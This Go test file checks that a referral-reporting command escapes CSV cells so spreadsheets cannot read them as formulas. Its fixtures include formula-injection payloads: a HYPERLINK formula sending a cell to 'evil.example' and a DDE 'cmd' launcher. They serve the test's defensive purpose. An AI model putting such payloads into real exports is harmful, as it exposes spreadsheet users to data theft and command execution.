package main

import (
	"encoding/csv"
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestSafeCell(t *testing.T) {
	tests := []struct {
		in, want string
		reason   string
	}{
		{in: "", want: ""},
		{in: "maya", want: "maya"},
		{in: "=1+2", want: "'=1+2"},
		{in: `=HYPERLINK("http://evil.example/?"&B2,"pay")`, want: `'=HYPERLINK("http://evil.example/?"&B2,"pay")`},
		{in: "@SUM(A1:A9)", want: "'@SUM(A1:A9)"},
		{in: "+cmd|' /C calc'!A0", want: "'+cmd|' /C calc'!A0"},
		{in: "-2+3", want: "'-2+3", reason: "a sign then an expression is a formula"},
		{in: "-", want: "'-"},
		{in: "+", want: "'+"},
		{in: "\tmaya", want: "'\tmaya"},
		{in: "\r=1", want: "'\r=1"},
		{in: "-3", want: "-3", reason: "a negative number stays a number"},
		{in: "-1800.00", want: "-1800.00"},
		{in: "+3", want: "+3"},
		{in: "-.5", want: "-.5"},
		{in: "-5.", want: "-5."},
		{in: "-1e-3", want: "-1e-3"},
		{in: "+2E10", want: "+2E10"},
		{in: "-1e", want: "'-1e"},
		{in: "-e5", want: "'-e5"},
		{in: "-.", want: "'-."},
		{in: "-inf", want: "'-inf", reason: "strconv would read it as a number; a spreadsheet does not"},
		{in: "-0x10", want: "'-0x10"},
		{in: "-1,000", want: "'-1,000"},
		{in: "−3", want: "−3", reason: "U+2212 starts no formula"},
		{in: "a=1", want: "a=1"},
		{in: "1800.00", want: "1800.00"},
	}
	for _, tt := range tests {
		t.Run(tt.in, func(t *testing.T) {
			assert.Equal(t, tt.want, safeCell(tt.in), tt.reason)
		})
	}
}

// injectionPeople is a stream of three people whose ids and names would be
// formulas in a spreadsheet, each a mentor with a referral month ending in
// 2026-06, and one whose id is a negative number.
func injectionPeople(t testing.TB) string {
	t.Helper()
	maya := personLine(t, "maya")
	var b strings.Builder
	for _, p := range []struct{ id, name string }{
		{"@maya", `=HYPERLINK("http://evil.example/?"&B2,"pay")`},
		{"+maya", "+Maya"},
		{"-maya", "-2+3"},
		{"-3", "Minus Three"},
	} {
		rec := mapOf(t, maya)
		rec["id"], rec["name"] = p.id, p.name
		line, err := json.Marshal(rec)
		require.NoError(t, err)
		b.Write(line)
		b.WriteByte('\n')
	}
	return b.String()
}

// personLine is the JSON line of a person of examples/cycle/people.jsonl.
func personLine(t testing.TB, id string) string {
	t.Helper()
	data, err := os.ReadFile("../../examples/cycle/people.jsonl")
	require.NoError(t, err)
	for _, line := range strings.Split(string(data), "\n") {
		if strings.Contains(line, `"id":"`+id+`"`) {
			return line
		}
	}
	t.Fatalf("no person %s in examples/cycle/people.jsonl", id)
	return ""
}

func mapOf(t testing.TB, line string) map[string]any {
	t.Helper()
	var m map[string]any
	require.NoError(t, json.Unmarshal([]byte(line), &m))
	return m
}

// readCSV parses CSV output.
func readCSV(t testing.TB, out string) [][]string {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err)
	return records
}

// TestCSVInjection: no CSV the command writes carries a live formula
// (issue 22).
func TestCSVInjection(t *testing.T) {
	people := injectionPeople(t)

	got := runLadder(t, people, "evaluate", "--summary", "--format", "csv", "--at", at, "-")
	require.Equal(t, exitOK, got.code, got.stderr)
	summary := readCSV(t, got.stdout)
	require.Len(t, summary, 5)
	var who [][]string
	for _, r := range summary[1:] {
		who = append(who, r[1:3])
	}
	assert.Equal(t, [][]string{
		{"'@maya", `'=HYPERLINK("http://evil.example/?"&B2,"pay")`},
		{"'+maya", "'+Maya"},
		{"'-maya", "'-2+3"},
		{"-3", "Minus Three"},
	}, who)

	got = runLadder(t, people, "referrals", "--due", "2026-06", "--format", "csv", "--at", at, "-")
	require.Equal(t, exitOK, got.code, got.stderr)
	assert.Equal(t, [][]string{
		{"mentor", "mentee", "currency", "amount", "placement_date", "month", "months", "period_end"},
		{"'@maya", "ines-moreno", "EUR", "588.00", "2026-02-02", "4", "12", "2026-06-02"},
		{"'+maya", "ines-moreno", "EUR", "588.00", "2026-02-02", "4", "12", "2026-06-02"},
		{"'-maya", "ines-moreno", "EUR", "588.00", "2026-02-02", "4", "12", "2026-06-02"},
		{"-3", "ines-moreno", "EUR", "588.00", "2026-02-02", "4", "12", "2026-06-02"},
	}, readCSV(t, got.stdout))
	for _, line := range strings.Split(strings.TrimSpace(got.stdout), "\n") {
		for _, c := range strings.Split(line, ",") {
			c = strings.TrimPrefix(c, `"`)
			if c != "" && strings.ContainsRune("=+@\t\r", rune(c[0])) {
				t.Errorf("cell %q starts a formula", c)
			}
		}
	}
}
